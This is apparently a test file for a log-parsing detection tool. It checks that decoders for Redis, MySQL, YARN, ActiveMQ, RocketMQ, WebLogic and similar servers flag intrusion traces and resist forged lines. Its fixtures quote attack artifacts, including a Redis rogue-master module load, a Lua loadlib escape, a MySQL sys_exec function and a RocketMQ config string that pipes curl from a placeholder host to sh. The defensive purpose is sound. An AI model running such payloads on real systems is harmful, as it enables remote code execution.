import { describe, expect, test } from 'bun:test';
import type { LogFormat } from '../decoder.ts';
import { isoOf, readLog } from '../read-log.fixture.ts';
import { activemq } from './activemq.ts';
import { confluence } from './confluence.ts';
import { flink } from './flink.ts';
import { jenkins } from './jenkins.ts';
import { jupyter } from './jupyter.ts';
import { mysqlError, mysqlGeneral } from './mysql.ts';
import { nacos } from './nacos.ts';
import { openvpnLog } from './openvpn.ts';
import { pm2 } from './pm2.ts';
import { redis } from './redis.ts';
import { redisMonitor } from './redis-monitor.ts';
import { rocketmq } from './rocketmq.ts';
import { salt } from './salt.ts';
import { spark } from './spark.ts';
import { supervisor } from './supervisor.ts';
import { weblogic } from './weblogic.ts';
import { xxlJob } from './xxl-job.ts';
import { yarn } from './yarn.ts';

const read = (format: LogFormat, ...lines: readonly string[]) =>
  readLog(format, `${lines.join('\n')}\n`).events;
/** Kind, action, account, address and detail of what is no message. */
const told = (format: LogFormat, ...lines: readonly string[]): readonly (readonly string[])[] =>
  read(format, ...lines).flatMap((event) => {
    if (event.what === 'service')
      return [[event.action, event.account, event.from, event.detail].map(String)];
    if (event.what === 'login') return [[event.outcome, event.account, event.from].map(String)];
    return event.what === 'account' ? [[event.action, String(event.account)]] : [];
  });
const java = '2024-01-02 03:04:05,678';

describe('Redis', () => {
  const at = '1:M 02 Jan 2024 03:04:05.678 ';

  test('saves, masters and modules that an exploit leaves', () => {
    const client = "'id=3 addr=192.0.2.7:5555 laddr=127.0.0.1:6379 fd=8 name= user=default'";
    expect(
      told(
        redis,
        `${at}* Ready to accept connections`,
        `${at}* DB saved on disk`,
        `1:S 02 Jan 2024 03:04:05.678 * REPLICAOF 198.51.100.9:21000 enabled (user request from ${client})`,
        `${at}* Connecting to MASTER 198.51.100.9:21000`,
        `${at}* MASTER <-> REPLICA sync: Finished with success`,
        `${at}* Module 'system' loaded from /tmp/exp_lin.so`,
        `${at}* MASTER MODE enabled (user request from ${client})`,
      ),
    ).toEqual([
      ['saved', '', '', 'DB saved on disk'],
      ['replica-asked', 'default', '192.0.2.7', '198.51.100.9:21000'],
      ['replica-of', '', '198.51.100.9', 'Connecting to MASTER 198.51.100.9:21000'],
      ['replica-sync', '', '', 'MASTER <-> REPLICA sync: Finished with success'],
      ['module-loaded', '', '', 'system /tmp/exp_lin.so'],
      ['master', '', '192.0.2.7', expect.stringContaining('MASTER MODE')],
    ]);
    expect(read(redis, `${at}* x`).map(isoOf)).toEqual(['2024-01-02T03:04:05.678Z']);
  });

  test('the old head, and lines that are none', () => {
    const { events, outcome } = readLog(
      redis,
      '[1234] 02 Jan 03:04:05.678 * DB saved on disk\n1:M x\n   _._\n',
    );
    expect(events).toMatchObject([{ action: 'saved', certain: false }]);
    expect(outcome.events).toBe(1);
  });

  test('a client’s name that looks like a message is within one', () => {
    const forged = `${at}* REPLICAOF 198.51.100.9:1 enabled (user request from 'addr=192.0.2.7:5 name=Module-'x'-loaded DB saved on disk user=x')`;
    expect(told(redis, forged)).toEqual([['replica-asked', 'x', '192.0.2.7', '198.51.100.9:1']]);
  });

  const monitored = (rest: string): string => `1704164645.678901 [0 192.0.2.7:60866] ${rest}`;

  test('MONITOR: scripts that a client hands over, and nothing else', () => {
    const unboxed = 'local io_l = package.loadlib(\\"liblua5.1.so.0\\", \\"luaopen_io\\")';
    const padded = `"eval" "--${'x'.repeat(5000)}\\n${unboxed}" "0"`;
    expect(
      told(
        redisMonitor,
        monitored('"get" "a"'),
        monitored(`"eval" "${unboxed}" "0"`),
        monitored(padded),
        monitored('"SCRIPT" "LOAD" "return 1"'),
        monitored('"script" "flush"'),
        monitored('"FUNCTION" "LOAD" "#!lua name=x"'),
        '1704164645.678901 [0 lua] "eval" "return 2"',
        '1704164645.678901 [0 unix:/run/redis.sock] "eval" "return 3" "0"',
        '1704164645.678901 [3 [2001:db8::1]:5] "EVAL_RO" "return 4" "0"',
      ),
    ).toEqual([
      ['script', '', '192.0.2.7', expect.stringContaining('package.loadlib')],
      ['script', '', '192.0.2.7', expect.stringContaining('package.loadlib')],
      ['script', '', '192.0.2.7', expect.stringContaining('return 1')],
      ['script', '', '192.0.2.7', expect.stringContaining('name=x')],
      ['script', '', '', expect.stringContaining('return 2')],
      ['script', '', '', expect.stringContaining('return 3')],
      ['script', '', '2001:db8::1', expect.stringContaining('return 4')],
    ]);
    expect(read(redisMonitor, monitored('"ping"')).map(isoOf)).toEqual(['2024-01-02T03:04:05.678Z']);
  });

  test('MONITOR: a value that looks like a script is a value, and a head that is cut is none', () => {
    const forged = monitored('"set" "k" "\\n1704164645.678901 [0 203.0.113.9:1] \\"eval\\" \\"loadlib\\""');
    expect(told(redisMonitor, forged)).toEqual([]);
    for (const line of ['1704164645.678901 ', '170416464x.678901 [0 ', 'OK', '99'])
      expect(read(redisMonitor, line)).toEqual([]);
  });
});

describe('MySQL and MariaDB', () => {
  test('logins that were refused, in each form of the error log', () => {
    const denied = "Access denied for user 'root'@'192.0.2.7' (using password: YES)";
    expect(
      told(
        mysqlError,
        `2024-01-02T03:04:05.678901Z 8 [Note] [MY-010926] [Server] ${denied}`,
        `2024-01-02  3:04:05 8 [Warning] ${denied}`,
        `240102  3:04:05 [Warning] ${denied}`,
        '2024-01-02T03:04:05.678901Z 0 [System] [MY-010931] [Server] ready for connections.',
      ),
    ).toEqual(Array.from({ length: 3 }, () => ['failed', 'root', '192.0.2.7']));
    const forged = "x'@'203.0.113.1' (using password: YES)";
    expect(
      told(
        mysqlError,
        `2024-01-02T03:04:05Z 8 [Note] Access denied for user '${forged}'@'192.0.2.7' (using password: NO)`,
      ),
    ).toEqual([['failed', forged, '192.0.2.7']]);
  });

  test('the general log: statements, and connections that are no logins', () => {
    expect(
      told(
        mysqlGeneral,
        '2024-01-02T03:04:05.678901Z\t    8 Connect\troot@192.0.2.7 on mysql using TCP/IP',
        "2024-01-02T03:04:05.678901Z\t    8 Query\tCREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'x.so'",
        'FROM a second line',
        '2024-01-02T03:04:06.678901Z\t    8 Quit\t',
        '2024-01-02T03:04:07.678901Z\t    8 Query\tselect 0',
        '240102  3:04:05\t    9 Query\tselect 1',
        '\t\t    9 Query\tselect 2',
      ),
    ).toEqual([
      ['connect', 'root', '192.0.2.7', 'root@192.0.2.7 on mysql using TCP/IP'],
      ['statement', 'root', '192.0.2.7', "CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'x.so'"],
      ['statement', '', '', 'select 0'],
      ['statement', '', '', 'select 1'],
      ['statement', '', '', 'select 2'],
    ]);
  });
});

describe('Hadoop and Spark', () => {
  const audit = (fields: string, thread = ''): string =>
    `${java} INFO org.apache.hadoop.yarn.server.resourcemanager.RMAuditLogger${thread}: ${fields}`;

  test('applications, whoever submitted them', () => {
    expect(
      told(
        yarn,
        audit(
          'USER=dr.who\tIP=192.0.2.7\tOPERATION=Submit Application Request\tTARGET=ClientRMService\tRESULT=SUCCESS\tAPPID=application_1_0001',
        ),
        audit(
          'USER=dr.who\tOPERATION=Submit Application Request\tTARGET=ClientRMService\tRESULT=SUCCESS\tAPPID=application_1_0002',
          ' (qtp677-27)',
        ),
        '2024-01-02 03:04:05 INFO  RMAuditLogger:170 - USER=ada\tIP=192.0.2.8\tOPERATION=Submit Application Request\tRESULT=SUCCESS\tAPPID=application_1_0003',
        `${java} INFO org.apache.hadoop.yarn.server.nodemanager.DefaultContainerExecutor: launchContainer: [bash, /x/default_container_executor.sh]`,
        `${java} INFO  [ContainersLauncher #1] nodemanager.DefaultContainerExecutor (DefaultContainerExecutor.java:build(267)) - launchContainer: [bash, /y]`,
        `${java} INFO org.apache.hadoop.x.Y: State change`,
      ),
    ).toEqual([
      ['application', 'dr.who', '192.0.2.7', 'application_1_0001 SUCCESS'],
      ['application', 'dr.who', '', 'application_1_0002 SUCCESS'],
      ['application', 'ada', '192.0.2.8', 'application_1_0003 SUCCESS'],
      ['container-launched', '', '', 'bash, /x/default_container_executor.sh'],
      ['container-launched', '', '', 'bash, /y'],
    ]);
  });

  test('what a caller adds does not come before what Hadoop wrote', () => {
    const forged =
      'USER=ada\tIP=192.0.2.7\tOPERATION=Get Queue Info\tRESULT=SUCCESS\tCALLERCONTEXT=x\tOPERATION=Submit Application Request';
    expect(told(yarn, audit(forged))).toEqual([]);
    expect(
      told(yarn, `${java} INFO a.b.C: x RMAuditLogger: USER=a\tOPERATION=Submit Application Request`),
    ).toEqual([]);
  });

  test('drivers of Spark', () => {
    expect(
      told(
        spark,
        '24/01/02 03:04:05 INFO Worker: Asked to launch driver driver-20240102030405-0001',
        '24/01/02 03:04:05 INFO DriverRunner: Launch Command: "java" "-cp" "x"',
        '24/01/02 03:04:05 INFO Utils: Master: Driver submitted x',
      ),
    ).toEqual([
      ['driver-launched', '', '', 'driver-20240102030405-0001'],
      ['driver-command', '', '', '"java" "-cp" "x"'],
    ]);
  });
});

describe('applications in Java', () => {
  test('Jenkins: requests without a crumb', () => {
    const head = '2024-01-02 03:04:05.678+0000 [id=11]\tWARNING\thudson.security.csrf.CrumbFilter#doFilter: ';
    expect(
      told(jenkins, `${head}No valid crumb was included in request for /script by anonymous. Returning 403.`),
    ).toEqual([['request-refused', 'anonymous', '', '/script']]);
    expect(
      told(
        jenkins,
        `2024-01-02 03:04:05.678+0000 [id=11]\tINFO\thudson.X#y: ${head}No valid crumb was included in request for /script. Returning 403.`,
      ),
    ).toEqual([]);
  });

  test('Confluence: the request below a message', () => {
    const { events, outcome } = readLog(
      confluence,
      `${java} WARN [http-nio-8090-exec-3] [x.y.Z] doFilter x\n -- url: /%24%7B%28%23a%29%7D/ | traceId: 1 | userName: anonymous\njava.lang.RuntimeException: x\n\tat a.b(C.java:1)\nCaused by: x\n -- url: /b\nrest\n`,
    );
    expect(outcome).toMatchObject({ unreadable: 1 });
    expect(events).toMatchObject([
      { what: 'message' },
      { action: 'request', account: '', detail: '/%2524%257B%2528%2523a%2529%257D/' },
      { action: 'request', detail: '/b' },
    ]);
  });

  test('Confluence: a referrer that looks like a field decides nothing', () => {
    const head = `${java} ERROR [http-nio-8090-exec-3] [x.y.Z] execute x`;
    const newer = ' -- referer: http://192.0.2.1/x | url: /setup/a.action | userName: ada | action: a';
    expect(told(confluence, head, newer)).toEqual([['request', 'ada', '', '/setup/a.action']]);
    const forged = ' -- referer: x | url: /%24%7B%28%23a%29%7D/ | url: /index.action | userName: anonymous';
    expect(told(confluence, head, forged)).toEqual([]);
    const account = ' -- referer: x | userName: eve | url: /index.action | userName: ada';
    expect(told(confluence, head, account)).toEqual([['request', '', '', '/index.action']]);
  });

  test('ActiveMQ: connections that failed, beans from afar, passwords', () => {
    expect(
      told(
        activemq,
        `${java} | WARN  | Transport Connection to: tcp://192.0.2.7:5555 failed: java.io.EOFException | org.apache.activemq.broker.TransportConnection.Transport | ActiveMQ Transport: tcp:///192.0.2.7:5555@61616`,
        `${java} | INFO  | Loading XML bean definitions from URL [http://198.51.100.9/poc.xml] | x.Y | main`,
        `${java} | WARN  | Security Error occurred on connection to: tcp://192.0.2.7:5, User name [system] or password is invalid. | x.Y | t`,
      ),
    ).toEqual([
      ['connection-failed', '', '192.0.2.7', 'java.io.EOFException'],
      ['beans-loaded', '', '', 'http://198.51.100.9/poc.xml'],
      ['failed', 'system', '192.0.2.7'],
    ]);
  });

  test('RocketMQ: the client is taken from the end', () => {
    const config = '{rocketmqHome=-c $@|sh . echo curl http://198.51.100.9} client: /203.0.113.1:1';
    expect(
      told(
        rocketmq,
        '2024-01-02 03:04:05 INFO AdminBrokerThread_5 - updateBrokerConfig called by 192.0.2.7:5555',
        `2024-01-02 03:04:05 INFO AdminBrokerThread_5 - updateBrokerConfig, new config: [${config}}] client: /192.0.2.7:5555 `,
      ),
    ).toEqual([
      ['config-asked', '', '192.0.2.7', 'updateBrokerConfig called by 192.0.2.7:5555'],
      ['config-changed', '', '192.0.2.7', `${config}}`],
    ]);
  });

  test('Nacos, XXL-JOB and WebLogic', () => {
    expect(told(nacos, `${java} DEBUG auth start, request: POST /nacos/v1/auth/users`)).toEqual([
      ['request', '', '', 'POST /nacos/v1/auth/users'],
    ]);
    expect(
      told(
        xxlJob,
        `${java} INFO [xxl-rpc, EmbedServer bizThreadPool-1] c.x.job.core.executor.XxlJobExecutor [XxlJobExecutor.java : 181] >>>>>>>>>>> xxl-job regist JobThread success, jobId:7, handler:com.xxl.job.core.handler.impl.ScriptJobHandler@5f`,
        '2024-01-02 03:04:05 [com.xxl.job.core.handler.impl.ScriptJobHandler#execute]-[98]-[xxl-job, JobThread-7-1] ----------- script file:/data/applogs/xxl-job/jobhandler/gluesource/7_1.sh -----------',
        '2024-01-02 03:04:05 [com.xxl.job.core.thread.JobThread#run]-[1]-[x] ----------- script file:/x -----------',
      ),
    ).toEqual([
      ['code-registered', '', '', '7 com.xxl.job.core.handler.impl.ScriptJobHandler@5f'],
      ['script', '', '', '/data/applogs/xxl-job/jobhandler/gluesource/7_1.sh'],
    ]);
    const head =
      "####<Jan 2, 2024 3:04:05,678 AM CST> <Notice> <Security> <web1> <AdminServer> <[ACTIVE] ExecuteThread: '0'> <<anonymous>> <> <ctx> <1704164645678> ";
    const events = read(
      weblogic,
      `${head}<[severity-value: 32] [rid: 0] > <BEA-090078> <User weblogic in security realm myrealm has had 5 invalid login attempts, locking account for 30 minutes.> `,
    );
    expect(events).toMatchObject([{ what: 'account', action: 'locked', account: 'weblogic' }]);
    expect(events.map(isoOf)).toEqual(['2024-01-02T03:04:05.678Z']);
  });

  test('WebLogic: servlets that failed, as 10g and 12c write them, and all that stands below', () => {
    const head = (code: string) =>
      `####<15-Apr-2022 18:01:05,359 o'clock CEST> <Error> <HTTP> <web1> <AdminServer> <[ACTIVE] ExecuteThread: '2'> <<WLS Kernel>> <> <> <1737880350123> <${code}> `;
    const wsat = '[ServletContext@123[app:wls-wsat module:wls-wsat.war path:/wls-wsat spec-version:2.5]]';
    const older =
      "[weblogic.servlet.internal.WebAppServletContext@147a868 - appName: 'a', name: 'b', context-path: '/apps/b'] Root cause";
    const { events, outcome } = readLog(
      weblogic,
      `${head('BEA-101020')}<${wsat} Servlet failed with Exception\njava.lang.ProcessBuilder cannot be cast to x\n    at a.b(C.java:1)\n>\n` +
        `${head('BEA-101017')}<${older} of ServletException.>\n` +
        `${head('BEA-101017')}<[ServletContext@1[app:p module:p path:null spec-version:3.0]] Root cause of ServletException.>\n` +
        `${head('BEA-090078')}<User weblogic in security realm myrealm has had  5 invalid login attempts, locking account for 30 minutes.>\n`,
    );
    expect(outcome.unreadable).toBe(0);
    expect(events).toMatchObject([
      { action: 'servlet-failed', detail: expect.stringMatching(/^\/wls-wsat /) },
      { action: 'servlet-failed', detail: expect.stringMatching(/^\/apps\/b /) },
      { action: 'servlet-failed', detail: expect.stringMatching(/^\[ServletContext/) },
      { what: 'account', action: 'locked', account: 'weblogic' },
    ]);
  });
});

describe('Supervisor, Jupyter and Flink', () => {
  test('what they started, for whom', () => {
    expect(
      told(
        supervisor,
        `${java} INFO spawned: 'x' with pid 9' with pid 123`,
        `${java} INFO exited: x (exit status 1; not expected)`,
        `${java} INFO exited: y (terminated by SIGKILL)`,
        `${java} INFO success: x entered RUNNING state`,
      ),
    ).toEqual([
      ['spawned', '', '', "x' with pid 9"],
      ['exited', '', '', 'x'],
      ['exited', '', '', 'y'],
    ]);
    const at = '2024-01-02 03:04:05.678 ServerApp] ';
    expect(
      told(
        jupyter,
        `[I ${at}Kernel started: 0a1b2c3d-0a1b-0a1b-0a1b-0a1b2c3d4e5f`,
        `[I ${at}New terminal with automatic name: 1`,
        `[W ${at}403 POST /api/kernels?x=1 (@192.0.2.7) 1.20ms referer=None`,
        `[W ${at}404 GET /201 POST /api/terminals (192.0.2.7) 1ms`,
      ),
    ).toEqual([
      ['kernel', '', '', '0a1b2c3d-0a1b-0a1b-0a1b-0a1b2c3d4e5f'],
      ['terminal', '', '', '1'],
      ['request-refused', '', '192.0.2.7', 'POST 403 /api/kernels?x=1'],
    ]);
    const below = `[E ${at}{\n  "Host": "192.0.2.1:8888",\n  "User-Agent": "x"\n}\n[E ${at}500 GET /api (@192.0.2.7) 2.00ms referer=None\n`;
    expect(readLog(jupyter, below)).toMatchObject({ outcome: { events: 2, unreadable: 0 } });
    const id = '0a1b'.repeat(8);
    expect(
      told(
        flink,
        `${java} INFO  org.apache.flink.runtime.dispatcher.StandaloneDispatcher [] - Received JobGraph submission 'a' (b).' (${id}).`,
        `${java} INFO  a.StandaloneDispatcher - Received JobGraph submission ${id} (Flink Java Job at Tue).`,
        `${java} INFO  a.b.C [] - Received JobGraph submission 'a' (${id}).`,
      ),
    ).toEqual([
      ['job', '', '', `${id} a' (b).`],
      ['job', '', '', `${id} Flink Java Job at Tue`],
    ]);
  });
});

describe('PM2, Salt, OpenVPN', () => {
  test('what they ran and whom they let in', () => {
    expect(told(pm2, '2024-01-02T03:04:05: PM2 log: App [a:1] online:7] online')).toEqual([
      ['app-online', '', '', 'a:1] online'],
    ]);
    expect(
      told(
        salt,
        `${java} [salt.minion      :1234][INFO    ][4567] User root Executing command cmd.run with jid 20240102030405678901`,
      ),
    ).toEqual([['executed', 'root', '', 'cmd.run']]);
    expect(
      told(
        openvpnLog,
        "2024-01-02 03:04:05 192.0.2.7:5555 TLS: Username/Password authentication succeeded for username 'ada' [CN SET]",
        'Tue Jan  2 03:04:05 2024 192.0.2.7:5555 [ada] Peer Connection Initiated with [AF_INET]192.0.2.7:5555',
        '2024-01-02 03:04:05 192.0.2.7:5555 TLS Auth Error: Auth Username/Password verification failed for peer',
        '2024-01-02 03:04:05 Initialization Sequence Completed',
      ),
    ).toEqual([
      ['accepted', 'ada', '192.0.2.7'],
      ['accepted', 'ada', '192.0.2.7'],
      ['failed', '', '192.0.2.7'],
    ]);
  });
});
